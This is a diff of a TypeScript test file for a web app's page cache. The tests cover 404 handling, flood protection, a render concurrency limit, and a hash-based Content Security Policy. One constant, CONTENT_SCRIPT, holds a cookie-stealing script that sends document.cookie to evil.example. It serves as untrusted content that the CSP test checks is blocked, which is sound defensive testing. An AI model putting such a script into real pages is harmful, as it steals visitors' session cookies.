@@ -4,10 +4,19 @@ import type { FastifyInstance } from "fastify";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { bearer, postBody, signIn } from "../test/content";
 import { buildTestApp, TEST_DATABASES } from "../test/harness";
-import { createPageCache, inlineScriptHashes, type RenderedPage, sendCachedPage } from "./page-cache";
+import {
+  createPageCache,
+  inlineScriptHashes,
+  PAGE_CACHE_NONCE,
+  type RenderedPage,
+  sendCachedPage,
+  sendUncachedPage,
+} from "./page-cache";
 import { contentSecurityPolicy } from "./security";
 
 const THEME_SCRIPT = "document.documentElement.dataset.theme='dark'";
+/** An inline script the app did not write (say, in a post's content): never trusted. */
+const CONTENT_SCRIPT = "fetch('https://evil.example/?'+document.cookie)";
 const STYLESHEET =
   '<style data-stylesheet="/assets/app-1.css">.popup{font-weight:700}.admin-table{width:100%}</style>';
 const sha256 = (text: string) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`;
@@ -20,6 +29,9 @@ describe.each(TEST_DATABASES)("page cache (%s)", (kind) => {
   let override: Partial<RenderedPage> | undefined;
   /** Runs inside the next render (an admin's write landing mid-render). */
   let duringRender: (() => void) | undefined;
+  let pageCache: ReturnType<typeof createPageCache>;
+  let rendersNow = 0;
+  let peakRenders = 0;
 
   beforeAll(async () => {
     app = await buildTestApp(kind);
@@ -28,17 +40,24 @@ describe.each(TEST_DATABASES)("page cache (%s)", (kind) => {
       content: app.services.contentVersion,
       policy: (hashes) => contentSecurityPolicy(app.config, hashes),
       maxBytes: 64 * 1024,
+      isKnownPath: (path) => !path.includes("made-up"),
+      maxConcurrentRenders: 2,
       // A page that shows the active popup and the posts, like the real ones do.
       render: async (path, consent) => {
         renders.push(`${path} ${consent}`);
+        rendersNow += 1;
+        peakRenders = Math.max(peakRenders, rendersNow);
+        await new Promise((resolve) => setTimeout(resolve, 1));
+        rendersNow -= 1;
         duringRender?.();
         duringRender = undefined;
         const popup = await app.services.popups.active();
         const posts = await app.services.blog.list();
-        const body = `<!DOCTYPE html><html><head><script>${THEME_SCRIPT}</script>${STYLESHEET}</head><body>
+        const body = `<!DOCTYPE html><html><head><script nonce="${PAGE_CACHE_NONCE}">${THEME_SCRIPT}</script>${STYLESHEET}</head><body>
           <p class="popup">${popup?.title ?? "no popup"}</p><ul>${posts.map((p) => `<li>${p.title}</li>`).join("")}</ul>
           <p>consent: ${consent}</p>${"<p>filler</p>".repeat(path.includes("large") ? 20_000 : path.includes("medium") ? 2_000 : 1)}
-          <script type="module">import("/assets/entry.js")</script></body></html>`;
+          <div class="post"><script>${CONTENT_SCRIPT}</script></div>
+          <script type="module" nonce="${PAGE_CACHE_NONCE}">import("/assets/entry.js")</script></body></html>`;
         return {
           status: 200,
           headers: new Headers({ "content-type": "text/html; charset=utf-8" }),
@@ -47,8 +66,10 @@ describe.each(TEST_DATABASES)("page cache (%s)", (kind) => {
         };
       },
     });
+    pageCache = cache;
     app.get("/page/*", async (request, reply) => {
       const cached = await cache.lookup(request);
+      if (cached && "uncached" in cached) return sendUncachedPage(reply, cached.uncached);
       if (cached) return sendCachedPage(request, reply, cached.page, cached.hit);
       return reply.header("x-page-cache", "bypass").send("rendered for this visitor alone");
     });
@@ -73,6 +94,37 @@ describe.each(TEST_DATABASES)("page cache (%s)", (kind) => {
     expect(second.headers["x-page-cache"]).toBe("hit");
     expect(renders).toEqual(["/page/once "]);
     expect(html(second)).toBe(html(first));
+  });
+
+  it("answers a 404 render as it is: rendered once per request, never kept", async () => {
+    renders = [];
+    override = { status: 404 };
+    const first = await get("/page/missing-post");
+    override = undefined;
+    expect(first.statusCode).toBe(404);
+    expect(first.headers["x-page-cache"]).toBe("uncached");
+    expect(first.headers["content-security-policy"]).toContain(sha256(THEME_SCRIPT));
+    expect(renders).toEqual(["/page/missing-post "]); // not rendered a second time for the visitor
+    const again = await get("/page/missing-post");
+    expect(again.statusCode).toBe(200); // the next request renders afresh: nothing was kept
+    expect(renders).toHaveLength(2);
+  });
+
+  it("keeps no page for a path that cannot exist, so a flood of them evicts nothing", async () => {
+    await get("/page/real");
+    const before = pageCache.stats();
+    renders = [];
+    const flood = await Promise.all(Array.from({ length: 40 }, (_, i) => get(`/page/made-up-${i}`)));
+    expect(flood.map((res) => res.headers["x-page-cache"])).toEqual(Array(40).fill("bypass"));
+    expect(renders).toEqual([]); // rendered for each visitor by the page handler, not for the cache
+    expect((await get("/page/real")).headers["x-page-cache"]).toBe("hit");
+    expect(pageCache.stats()).toMatchObject({ entries: before.entries, bytes: before.bytes });
+  });
+
+  it("renders at most maxConcurrentRenders pages for the cache at once", async () => {
+    peakRenders = 0;
+    await Promise.all(Array.from({ length: 12 }, (_, i) => get(`/page/concurrent-${i}`)));
+    expect(peakRenders).toBe(2);
   });
 
   it("keeps each page with its inlined stylesheet cut to the rules its elements use", async () => {
@@ -160,14 +212,16 @@ describe.each(TEST_DATABASES)("page cache (%s)", (kind) => {
     expect(html(plain)).toBe(html(first));
   });
 
-  it("allows exactly the page's own inline scripts by hash, with no nonce", async () => {
+  it("allows exactly the app's own inline scripts by hash, with no nonce, and no other inline script", async () => {
     const res = await get("/page/csp");
     const csp = String(res.headers["content-security-policy"]);
     const scriptSrc = csp.split(";").find((d) => d.startsWith("script-src")) ?? "";
     const hashes = scriptSrc.split(" ").filter((s) => s.startsWith("'sha256-"));
     expect(hashes).toEqual([sha256(THEME_SCRIPT), sha256('import("/assets/entry.js")')]);
     expect(scriptSrc).not.toMatch(/nonce|unsafe-inline/);
-    expect(inlineScriptHashes(html(res))).toEqual(hashes);
+    expect(hashes).not.toContain(sha256(CONTENT_SCRIPT));
+    expect(inlineScriptHashes(html(res))).toContain(sha256(CONTENT_SCRIPT)); // it is in the page
+    expect(html(res)).not.toContain(PAGE_CACHE_NONCE); // the render's marks are removed
   });
 
   it("keeps no error page, no page that sets a cookie, and nothing rendered while content changed", async () => {
